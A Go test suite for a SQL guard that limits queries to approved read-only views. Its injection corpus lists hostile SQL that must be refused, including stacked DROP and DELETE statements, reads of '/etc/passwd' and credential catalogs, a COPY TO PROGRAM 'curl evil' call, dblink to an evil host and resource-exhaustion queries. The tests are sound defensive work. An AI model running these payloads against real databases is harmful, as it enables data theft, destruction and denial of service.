package sqlguard_test

import (
	"errors"
	"regexp"
	"slices"
	"strings"
	"testing"

	pgquery "github.com/wasilibs/go-pgquery"

	"github.com/trellis-go/trellis/apps/vesper/sqlguard"
	"github.com/trellis-go/trellis/apps/vesper/warehouse"
)

func setup(t testing.TB) *sqlguard.Guard {
	t.Helper()
	return sqlguard.New(nil)
}

func TestAccepts(t *testing.T) {
	g := setup(t)
	for _, tc := range []struct {
		sql   string
		views []string
	}{
		{"SELECT * FROM per_project", []string{"per_project"}},
		{"select name, technology from per_project where status_type = 'off_track' order by name;", []string{"per_project"}},
		{`SELECT vf.vendor, vf.asof, AVG(da.dayahead_price) AS avg_price, COUNT(*)
		  FROM mc_dayahead da JOIN mc_vendor_files vf ON da.file_info_key = vf.file_info_key AND da.hubzone_key = vf.hubzone_key
		  WHERE vf.hubzone = 'NP15' AND da.year = 2025 GROUP BY vf.vendor, vf.asof HAVING COUNT(*) > 10 LIMIT 20`,
			[]string{"mc_dayahead", "mc_vendor_files"}},
		{`WITH r AS (SELECT report_name, COUNT(*) AS n FROM pbi_activity_events GROUP BY report_name)
		  SELECT report_name, n, RANK() OVER (ORDER BY n DESC) FROM r`, []string{"pbi_activity_events"}},
		{`SELECT p.name FROM per_project p WHERE p.gid IN (SELECT project_gid FROM per_projecthealth WHERE healthcolor = 'red')
		  UNION SELECT projectname FROM changes WHERE dateofchange >= '2026-02-20'`, []string{"changes", "per_project", "per_projecthealth"}},
		{`SELECT "Project Name", "COD Year", CAST("COD Year" AS text), COALESCE(summary, 'n/a') FROM activeportfolio_mm a
		  JOIN per_project p ON p.project_id = a.project_id WHERE monthlysnapshot = 1 AND "COD Year" BETWEEN 2026 AND 2027`,
			[]string{"activeportfolio_mm", "per_project"}},
		{"SELECT CASE WHEN gencap > 100 THEN 'big' ELSE 'small' END, LOWER(name), EXTRACT(YEAR FROM revision_date) FROM per_project", []string{"per_project"}},
		{"SELECT name FROM per_project WHERE name LIKE 'O''Brien%' AND CURRENT_DATE > revision_date", []string{"per_project"}},
		{"SELECT 1", []string{}},
		// WITH queries may read the ones declared before them
		{"WITH a AS (SELECT name FROM per_project), b AS (SELECT name FROM a) SELECT * FROM b", []string{"per_project"}},
		// replace that does not lengthen, string_agg over a real join or a single view
		{"SELECT replace(replace(name, '_', ' '), '--', '-') FROM per_project", []string{"per_project"}},
		{"SELECT status_type, string_agg(name, ', ') FROM per_project GROUP BY status_type", []string{"per_project"}},
		{"SELECT p.status_type, string_agg(c.projectname, ', ') FROM per_project p JOIN changes c ON c.projectname = p.name GROUP BY p.status_type", []string{"changes", "per_project"}},
		{"SELECT COUNT(*) FROM per_project a, per_project b WHERE a.name = b.name", []string{"per_project"}},
		// :: casts are not parameters
		{"SELECT gencap::int FROM per_project", []string{"per_project"}},
	} {
		c, err := g.Check(tc.sql)
		if err != nil {
			t.Errorf("%q: %v", tc.sql, err)
			continue
		}
		if !slices.Equal(c.Views, tc.views) {
			t.Errorf("%q: views %v, want %v", tc.sql, c.Views, tc.views)
		}
		if strings.HasSuffix(c.SQL, ";") {
			t.Errorf("%q: checked SQL keeps the semicolon", tc.sql)
		}
	}
}

// The injection corpus: each entry must be refused, and the reason must
// name what was wrong.
var injections = []struct{ sql, reason string }{
	// stacked statements
	{"SELECT * FROM per_project; DROP TABLE per_project", "second statement"},
	{"SELECT 1; SELECT * FROM base_per_project", "second statement"},
	{"SELECT * FROM per_project;;DELETE FROM changes", "second statement"},
	// comments, also ones that hide a second statement from one of the dialects
	{"SELECT * FROM per_project -- WHERE tenant_id = 'x'", "comment"},
	{"SELECT * FROM per_project /* */ WHERE 1=1", "comment"},
	{"SELECT 1 /* /* */ ; DELETE FROM changes; -- */", "comment"},
	// data-modifying statements and CTEs
	{"DELETE FROM per_project", "not a SELECT"},
	{"UPDATE per_project SET name = 'x'", "not a SELECT"},
	{"INSERT INTO per_project (name) VALUES ('x')", "not a SELECT"},
	{"WITH d AS (DELETE FROM changes RETURNING *) SELECT * FROM d", "DELETE changes data"},
	{"WITH i AS (INSERT INTO changes (projectname) VALUES ('x') RETURNING 1) SELECT * FROM i", "INSERT changes data"},
	{"WITH u AS (UPDATE per_project SET name = 'x' RETURNING 1) SELECT 1", "UPDATE changes data"},
	{"MERGE INTO per_project p USING changes c ON p.name = c.projectname WHEN MATCHED THEN DELETE", "not a SELECT"},
	{"TRUNCATE per_project", "not a SELECT"},
	{"DROP VIEW per_project", "not a SELECT"},
	{"CREATE TABLE x AS SELECT * FROM per_project", "not a SELECT"},
	{"ALTER TABLE per_project ADD COLUMN x int", "not a SELECT"},
	{"GRANT ALL ON per_project TO public", "not a SELECT"},
	// SELECT INTO and locking
	{"SELECT * INTO stolen FROM per_project", "INTO"},
	{"SELECT * FROM per_project FOR UPDATE", "locking"},
	{"SELECT * FROM per_project FOR SHARE NOWAIT", "locking"},
	{"SELECT * FROM per_project FOR NO KEY UPDATE SKIP LOCKED", "locking"},
	// sleeping, files, large objects, remote access, settings
	{"SELECT pg_sleep(30)", "pg_sleep"},
	{"SELECT * FROM per_project WHERE pg_sleep(10) IS NOT NULL", "pg_sleep"},
	{"SELECT pg_catalog.pg_sleep(1)", "pg_sleep"},
	{"SELECT sleep(5)", "sleep"},
	{"SELECT randomblob(1000000000)", "randomblob"},
	{"SELECT pg_read_file('/etc/passwd')", "pg_read_file"},
	{"SELECT pg_read_binary_file('/etc/passwd')", "pg_read_binary_file"},
	{"SELECT pg_ls_dir('/')", "pg_ls_dir"},
	{"SELECT lo_import('/etc/passwd')", "lo_import"},
	{"SELECT lo_export(1234, '/tmp/x')", "lo_export"},
	{"SELECT * FROM dblink('host=evil', 'select 1') AS t(a int)", "not allowed"},
	{"SELECT set_config('vesper.tenant', 'northwind', false)", "set_config"},
	{"SELECT current_setting('vesper.tenant')", "current_setting"},
	{"SELECT load_extension('/tmp/evil.so')", "load_extension"},
	{"SELECT readfile('/etc/passwd')", "readfile"},
	{"SELECT pg_terminate_backend(1)", "pg_terminate_backend"},
	{"SELECT query_to_xml('delete from changes', true, true, '')", "query_to_xml"},
	{"SELECT CURRENT_USER", "CURRENT_USER"},
	// COPY, DO, CALL, EXECUTE, SET, transaction control
	{"COPY per_project TO '/tmp/out.csv'", "not a SELECT"},
	{"COPY (SELECT * FROM per_project) TO PROGRAM 'curl evil'", "not a SELECT"},
	{"DO $$ BEGIN PERFORM pg_sleep(10); END $$", "plain 'quoted' strings"},
	{"CALL do_something()", "not a SELECT"},
	{"EXECUTE stmt", "not a SELECT"},
	{"SET ROLE postgres", "not a SELECT"},
	{"SET LOCAL vesper.tenant = 'northwind'", "not a SELECT"},
	{"RESET ROLE", "not a SELECT"},
	{"BEGIN", "not a SELECT"},
	{"ATTACH DATABASE '/tmp/x.db' AS x", "does not parse"},
	{"PRAGMA query_only = 0", "does not parse"},
	{"VACUUM", "not a SELECT"},
	{"EXPLAIN ANALYZE SELECT * FROM per_project", "not a SELECT"},
	// other relations: base tables, catalogs, qualified names
	{"SELECT * FROM base_per_project", "not an approved view"},
	{"SELECT * FROM pg_catalog.pg_authid", "schema-qualified"},
	{"SELECT * FROM pg_shadow", "not an approved view"},
	{"SELECT * FROM information_schema.tables", "schema-qualified"},
	{"SELECT * FROM sqlite_master", "not an approved view"},
	{"SELECT * FROM main.per_project", "schema-qualified"},
	{"SELECT * FROM Stage.mc_dayahead", "schema-qualified"},
	{"SELECT * FROM vesper_meta", "not an approved view"},
	{"SELECT * FROM chat_agent_tools", "not an approved view"},
	{"SELECT * FROM per_project p JOIN base_changes c ON true", "not an approved view"},
	{"SELECT (SELECT COUNT(*) FROM base_pbi_activity_events)", "not an approved view"},
	{"WITH per_project AS (SELECT * FROM base_per_project) SELECT * FROM per_project", "name of an approved view"},
	{"SELECT * FROM generate_series(1, 1000000000)", "functions in FROM"},
	{"SELECT * FROM per_project TABLESAMPLE SYSTEM (10)", "TABLESAMPLE"},
	// recursion (unbounded work) and odd literals
	{"WITH RECURSIVE n(i) AS (SELECT 1 UNION ALL SELECT i+1 FROM n) SELECT COUNT(*) FROM n", "RECURSIVE"},
	{"SELECT E'\\x27; DROP TABLE x' FROM per_project", "plain 'quoted' strings"},
	{"SELECT $q$;DELETE FROM changes$q$", "plain 'quoted' strings"},
	{"SELECT U&'\\0041'", "Unicode"},
	{"SELECT X'41'", "bit, hex"},
	{"SELECT * FROM per_project WHERE name = $1", "$n parameters"},
	// recursion without the keyword: SQLite runs a self-referencing CTE as recursive
	{"WITH n AS (SELECT 1 AS i UNION ALL SELECT i+1 FROM n) SELECT COUNT(*) FROM n", "reads itself"},
	{"WITH a AS (SELECT i FROM b), b AS (SELECT i FROM a) SELECT * FROM a", "reads itself or a WITH query declared after it"},
	{"WITH a AS (SELECT 1 AS i) SELECT * FROM a WHERE i IN (WITH b AS (SELECT i FROM b) SELECT i FROM b)", "reads itself"},
	{"WITH x AS (SELECT 1 AS i), n AS (SELECT i FROM x UNION ALL SELECT i+1 FROM n WHERE i < 1e9) SELECT max(i) FROM n", "reads itself"},
	// SQLite's own parameter forms
	{"SELECT * FROM per_project WHERE name = ?1", "?1"},
	{"SELECT * FROM per_project WHERE name = ?", "?1"},
	{"SELECT * FROM per_project WHERE name = :name", ":name"},
	{"SELECT * FROM per_project WHERE name = @name", "@name"},
	{"SELECT * FROM per_project WHERE name = $name", "$name"},
	// values that grow without bound
	{"SELECT replace(replace(replace(name, 'a', name), 'a', name), 'a', name) FROM per_project", "replace() that lengthens"},
	{"SELECT replace(name, 'a', 'aaaa') FROM per_project", "replace() that lengthens"},
	{"SELECT replace(name, name, 'x') FROM per_project", "replace() that lengthens"},
	{"SELECT string_agg(a.name, ',') FROM per_project a, per_project b", "cross join"},
	{"SELECT COUNT(*), string_agg(a.name || b.name, ',') FROM per_project a CROSS JOIN changes b", "cross join"},
	{"SELECT group_concat(a.name) FROM per_project a JOIN per_project b ON true", "cross join"},
	{"SELECT a.status_type FROM per_project a, per_project b GROUP BY a.status_type HAVING length(string_agg(b.name, ',')) > 0", "cross join"},
	{"SELECT 'x'::regclass", "regclass"},
	{"SELECT CAST(name AS regproc) FROM per_project", "regproc"},
	{"SELECT VARIADIC_TEST(VARIADIC ARRAY[1])", "not allowed"},
	// not SQL at all
	{"", "empty"},
	{"   ", "empty"},
	{"SELEC * FORM per_project", "does not parse"},
	{"' OR 1=1 --", "comment"},
	{"SELECT 'unterminated", "tokenised"},
	{"SELECT * FROM per_project WHERE name = 'a\x00b'", "NUL"},
	{"SELECT " + strings.Repeat("1+", 5000) + "1", "limit"},
}

func TestRejectsInjections(t *testing.T) {
	g := setup(t)
	for _, tc := range injections {
		_, err := g.Check(tc.sql)
		if err == nil {
			t.Errorf("accepted %q", tc.sql)
			continue
		}
		var re *sqlguard.RejectedError
		if !errors.As(err, &re) || !errors.Is(err, sqlguard.ErrRejected) {
			t.Errorf("%q: error %T %v is not a *RejectedError", tc.sql, err, err)
			continue
		}
		if !strings.Contains(strings.ToLower(err.Error()), strings.ToLower(tc.reason)) {
			t.Errorf("%q:\n  error %q\n  should mention %q", tc.sql, err, tc.reason)
		}
		if re.Hint == "" {
			t.Errorf("%q: no hint for the user", tc.sql)
		}
	}
}

func TestCustomOptions(t *testing.T) {
	g := sqlguard.New(&sqlguard.Options{Views: []string{"things"}, Functions: []string{"count"}, MaxLength: 40})
	if _, err := g.Check("SELECT COUNT(*) FROM things"); err != nil {
		t.Fatal(err)
	}
	if _, err := g.Check("SELECT AVG(x) FROM things"); err == nil {
		t.Error("avg accepted although not in Functions")
	}
	if _, err := g.Check("SELECT * FROM per_project"); err == nil {
		t.Error("per_project accepted although not in Views")
	}
	if _, err := g.Check("SELECT COUNT(*) FROM things WHERE a = 'long enough'"); err == nil {
		t.Error("query over MaxLength accepted")
	}
}

func FuzzCheck(f *testing.F) {
	for _, tc := range injections {
		f.Add(tc.sql)
	}
	f.Add("SELECT name FROM per_project WHERE technology = 'Solar'")
	f.Add("WITH a AS (SELECT 1 AS x) SELECT x FROM a")
	g := sqlguard.New(nil)
	f.Fuzz(func(t *testing.T, sql string) {
		c, err := g.Check(sql) // must never panic
		if err != nil {
			if !errors.Is(err, sqlguard.ErrRejected) {
				t.Fatalf("%q: error %v does not wrap ErrRejected", sql, err)
			}
			return
		}
		// What is accepted is accepted again as it will run, names only
		// approved views, and holds no statement separator.
		again, err := g.Check(c.SQL)
		if err != nil {
			t.Fatalf("%q accepted, but its checked form %q is not: %v", sql, c.SQL, err)
		}
		if !slices.Equal(again.Views, c.Views) {
			t.Fatalf("%q: views %v then %v", sql, c.Views, again.Views)
		}
		// An independent look at the accepted tree, through the parser's
		// JSON output: every relation is an approved view or a CTE, and
		// there is no INTO, no locking clause, no data-modifying statement.
		js, err := pgquery.ParseToJSON(c.SQL)
		if err != nil {
			t.Fatalf("%q accepted but does not parse: %v", sql, err)
		}
		ctes := map[string]bool{}
		for _, m := range cteRE.FindAllStringSubmatch(js, -1) {
			ctes[strings.ToLower(m[1])] = true
		}
		for _, m := range relRE.FindAllStringSubmatch(js, -1) {
			if !approved[strings.ToLower(m[1])] && !ctes[strings.ToLower(m[1])] {
				t.Fatalf("%q accepted although it reads %q", sql, m[1])
			}
		}
		for _, bad := range []string{`"intoClause"`, `"lockingClause"`, `"InsertStmt"`, `"UpdateStmt"`, `"DeleteStmt"`, `"schemaname"`} {
			if strings.Contains(js, bad) {
				t.Fatalf("%q accepted although its tree has %s", sql, bad)
			}
		}
	})
}

var (
	relRE    = regexp.MustCompile(`"relname":"([^"]*)"`)
	cteRE    = regexp.MustCompile(`"ctename":"([^"]*)"`)
	approved = map[string]bool{}
)

func init() {
	for _, v := range warehouse.ViewNames() {
		approved[v] = true
	}
}

func BenchmarkCheck(b *testing.B) {
	g := sqlguard.New(nil)
	q := `SELECT vf.vendor, AVG(da.dayahead_price) FROM mc_dayahead da JOIN mc_vendor_files vf
	      ON da.file_info_key = vf.file_info_key WHERE vf.hubzone = 'NP15' GROUP BY vf.vendor`
	if _, err := g.Check(q); err != nil {
		b.Fatal(err)
	}
	for b.Loop() {
		if _, err := g.Check(q); err != nil {
			b.Fatal(err)
		}
	}
}
